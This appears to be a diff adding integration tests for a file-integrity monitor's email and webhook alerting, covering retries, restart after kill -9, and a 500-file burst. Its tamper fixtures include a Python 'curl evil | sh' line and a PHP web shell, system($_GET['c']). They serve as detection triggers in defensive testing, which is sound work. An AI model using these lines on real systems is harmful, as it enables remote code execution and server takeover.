@@ -1,0 +1,203 @@
+// Alerts that are never lost: the real agent delivering to a real SMTP server and a real webhook
+// receiver on 127.0.0.1 that fail for a while, across kill -9, and a burst of 500 changed files.
+import assert from 'node:assert/strict';
+import { readdirSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { test } from 'node:test';
+import { agentFixture, APP_CONTENT, APP_FILE, isAlert, isKind, startAgent, YEARLY, type AgentToml, type AlertLine } from '../helpers/agent.js';
+import { runCli } from '../helpers/cli.js';
+import { FixtureRoot } from '../helpers/fixture.js';
+import { startHookReceiver, startSmtp, waitUntil } from '../helpers/receivers.js';
+
+const SECRET = 'test-secret-0123456789';
+const TAMPERED = 'import os; os.system("curl evil | sh")\n';
+
+/** Fast retries for the tests: a dead receiver is retried every few hundred ms. */
+const FAST: NonNullable<AgentToml['alerts']> = { retry_min: '100ms', retry_max: '400ms', host: 'web1.test' };
+
+function outboxFiles(stateDir: string, sink: string): string[] {
+  try {
+    return readdirSync(path.join(stateDir, 'outbox', sink)).filter((f) => f.endsWith('.json'));
+  } catch {
+    return [];
+  }
+}
+
+test('webhook: 500s, then kill -9 with alerts pending, restart: every alert arrives, signed, with its id', async (t) => {
+  const { fx, stateDir } = agentFixture(t);
+  const hook = await startHookReceiver(t, SECRET);
+  hook.failNext(1_000_000);
+  const config: AgentToml = {
+    scope: { packages: ['app'] },
+    schedule: { scoped: YEARLY, full: YEARLY },
+    alerts: { ...FAST, webhook: { url: hook.url, secret: SECRET, timeout: '2s' } },
+  };
+  const agent = await startAgent({ t, fx, stateDir, config });
+  const from = agent.mark();
+  fx.write(APP_FILE, TAMPERED);
+  const opened = await agent.waitFor<AlertLine>('the opened alert', isAlert('findings.opened'), { from });
+  await agent.waitFor('a failed delivery', (l) => l.kind === 'alert.failed' && l['sink'] === 'webhook' && String(l['error']).includes('HTTP 500'), { from });
+  fx.write(APP_FILE, APP_CONTENT);
+  const resolved = await agent.waitFor<AlertLine>('the resolved alert', isAlert('findings.resolved'), { from });
+  // Both are on disk before the agent dies.
+  await waitUntil('two pending webhook files', () => outboxFiles(stateDir, 'webhook').length === 2);
+  const status = await runCli(['status', '--json', '--config', agent.configFile]);
+  const sinks = (JSON.parse(status.stdout) as { alerts: { sink: string; pending: number; lastError: string | null }[] }).alerts;
+  const webhook = sinks.find((s) => s.sink === 'webhook');
+  assert.equal(webhook?.pending, 2, status.stdout);
+  assert.match(webhook?.lastError ?? '', /HTTP 500/);
+  await agent.kill9();
+  assert.equal(hook.accepted.length, 0);
+
+  // The receiver comes back after three more failures; the restarted agent delivers both.
+  hook.failNext(3);
+  const again = await startAgent({ t, fx, stateDir, config });
+  await waitUntil('both alerts delivered', () => hook.accepted.length >= 2);
+  const ids = hook.accepted.map((h) => h.id);
+  assert.ok(ids.includes(opened.line.event.id), `opened ${opened.line.event.id} not in ${ids.join(', ')}`);
+  assert.ok(ids.includes(resolved.line.event.id));
+  const hOpened = hook.accepted.find((h) => h.id === opened.line.event.id);
+  assert.equal(hOpened?.event, 'findings.opened');
+  assert.equal(hOpened?.host, 'web1.test');
+  assert.deepEqual(hOpened?.findings.map((f) => [f.package, f.path, f.status]), [['app', APP_FILE, 'changed']]);
+  await waitUntil('the outbox emptied', () => outboxFiles(stateDir, 'webhook').length === 0);
+  await again.stop();
+});
+
+test('email: a server that answers 4xx twice, then accepts: one message with the finding; a server that is down, then up', async (t) => {
+  const { fx, stateDir } = agentFixture(t);
+  const smtp = await startSmtp(t);
+  smtp.failNext(2);
+  const agent = await startAgent({
+    t,
+    fx,
+    stateDir,
+    config: {
+      scope: { packages: ['app'] },
+      schedule: { scoped: YEARLY, full: YEARLY },
+      alerts: { ...FAST, email: { to: ['ops@example.test'], from: 'pkgwatch@web1.test', smtp: `smtp://127.0.0.1:${smtp.port}`, batch: '500ms', timeout: '5s' } },
+    },
+  });
+  const from = agent.mark();
+  fx.write(APP_FILE, TAMPERED);
+  await waitUntil('the mail', () => smtp.mails.length === 1);
+  assert.equal(smtp.refused, 2);
+  const failed = agent.find((l) => l.kind === 'alert.failed' && l['sink'] === 'email', from);
+  assert.equal(failed.length, 2, agent.transcript());
+  assert.match(String(failed[0]?.['error']), /451/);
+  const mail = smtp.mails[0];
+  assert.ok(mail !== undefined);
+  assert.deepEqual(mail.to, ['ops@example.test']);
+  assert.match(mail.subject, /web1\.test/);
+  assert.match(mail.subject, /app/);
+  assert.ok(mail.text.includes(APP_FILE), mail.text);
+  await agent.stop();
+
+  // Down, then up: the agent keeps the mail and sends it once the server listens again.
+  const port = smtp.port;
+  await smtp.close();
+  const down = await startAgent({
+    t,
+    fx,
+    stateDir,
+    config: {
+      scope: { packages: ['app'] },
+      schedule: { scoped: YEARLY, full: YEARLY },
+      alerts: { ...FAST, email: { to: ['ops@example.test'], smtp: `smtp://127.0.0.1:${port}`, batch: '0', timeout: '5s' } },
+    },
+  });
+  const mark = down.mark();
+  fx.write(APP_FILE, 'second tampering\n');
+  await down.waitFor('a refused connection', (l) => l.kind === 'alert.failed' && /ECONNREFUSED/.test(String(l['error'])), { from: mark });
+  const back = await startSmtp(t, port);
+  await waitUntil('the mail after the server came up', () => back.mails.length >= 1);
+  assert.ok(back.mails.some((m) => m.text.includes(APP_FILE)));
+  await down.stop();
+});
+
+test('a burst of 500 changed files: one email, a bounded number of webhook calls, every finding reported', async (t) => {
+  const fx = new FixtureRoot();
+  t.after(() => fx.cleanup());
+  const files = Array.from({ length: 500 }, (_, i) => ({ path: `/srv/big/f${String(i).padStart(3, '0')}.php`, content: `<?php echo ${i};\n` }));
+  fx.addPackage({ name: 'big', files });
+  const smtp = await startSmtp(t);
+  const hook = await startHookReceiver(t, SECRET);
+  const agent = await startAgent({
+    t,
+    fx,
+    config: {
+      scope: { packages: ['big'] },
+      schedule: { scoped: YEARLY, full: YEARLY },
+      alerts: {
+        ...FAST,
+        email: { to: ['ops@example.test'], smtp: `smtp://127.0.0.1:${smtp.port}`, batch: '5s' },
+        webhook: { url: hook.url, secret: SECRET },
+      },
+    },
+  });
+  const from = agent.mark();
+  for (const f of files) writeFileSync(fx.path(f.path), `<?php system($_GET["c"]); // ${f.path}\n`);
+  // The log caps the findings it prints per line; the webhook carries them all.
+  await waitUntil('all 500 findings at the webhook', () => {
+    const seen = new Set(hook.accepted.filter((h) => h.event === 'findings.opened').flatMap((h) => h.findings.map((f) => f.path)));
+    return seen.size === 500;
+  });
+  await waitUntil('the mail', () => smtp.mails.length >= 1);
+  const opened = agent.alerts('findings.opened', from);
+  assert.ok(opened.every((o) => hook.accepted.some((h) => h.id === o.event.id)), 'every opened event reached the webhook');
+  // Give a second message, if there were one, time to arrive before counting.
+  await new Promise((r) => setTimeout(r, 2000));
+  assert.equal(smtp.mails.length, 1, smtp.mails.map((m) => m.subject).join('\n'));
+  assert.ok(opened.length <= 10, `${opened.length} opened events for one burst`);
+  assert.ok(hook.requests <= 10, `${hook.requests} webhook calls for one burst`);
+  const mail = smtp.mails[0];
+  assert.match(mail?.subject ?? '', /500/);
+  for (const f of files) assert.ok(mail?.text.includes(f.path), `${f.path} missing from the mail`);
+  await agent.stop();
+});
+
+test('pkgwatch alert test: accepted by email and webhook (exit 0); a failing webhook is reported (exit 1); nothing configured (exit 2)', async (t) => {
+  const { fx, stateDir } = agentFixture(t);
+  const smtp = await startSmtp(t);
+  const hook = await startHookReceiver(t, SECRET);
+  const dir = path.dirname(stateDir);
+  const conf = path.join(dir, 'pkgwatch.toml');
+  writeFileSync(
+    conf,
+    `root = "${fx.root}"\nstate_dir = "${stateDir}"\n[alerts]\nhost = "web1.test"\n[alerts.email]\nto = ["ops@example.test"]\nsmtp = "smtp://127.0.0.1:${smtp.port}"\n[alerts.webhook]\nurl = "${hook.url}"\nsecret = "${SECRET}"\n`,
+  );
+  const ok = await runCli(['alert', 'test', '--config', conf]);
+  assert.equal(ok.code, 0, ok.stdout + ok.stderr);
+  assert.match(ok.stdout, /^email: accepted/m);
+  assert.match(ok.stdout, /^webhook: accepted/m);
+  assert.equal(smtp.mails.length, 1);
+  assert.match(smtp.mails[0]?.subject ?? '', /test/i);
+  assert.equal(hook.accepted[0]?.event, 'test');
+  assert.deepEqual(hook.accepted[0]?.findings, []);
+
+  hook.failNext(1);
+  const bad = await runCli(['alert', 'test', '--config', conf]);
+  assert.equal(bad.code, 1, bad.stdout + bad.stderr);
+  assert.match(bad.stdout, /^email: accepted/m);
+  assert.match(bad.stdout, /^webhook: FAILED: HTTP 500/m);
+  // It went past the outbox: nothing is left queued.
+  assert.deepEqual(outboxFiles(stateDir, 'webhook'), []);
+
+  const none = path.join(dir, 'none.toml');
+  writeFileSync(none, `root = "${fx.root}"\nstate_dir = "${stateDir}"\n`);
+  const empty = await runCli(['alert', 'test', '--config', none]);
+  assert.equal(empty.code, 2);
+  assert.match(empty.stderr, /no alert sink is configured/);
+});
+
+test('the log still carries every alert when no sink is configured, and nothing is queued', async (t) => {
+  const { fx, stateDir } = agentFixture(t);
+  const agent = await startAgent({ t, fx, stateDir, config: { scope: { packages: ['app'] }, schedule: { scoped: YEARLY, full: YEARLY } } });
+  const from = agent.mark();
+  fx.write(APP_FILE, TAMPERED);
+  const a = await agent.waitFor<AlertLine>('the opened alert', isAlert('findings.opened'), { from });
+  assert.equal(a.line.event.offline.active, false);
+  assert.equal(typeof a.line.event.host, 'string');
+  assert.deepEqual(agent.find(isKind('alert.write-failed')), []);
+  await agent.stop();
+});
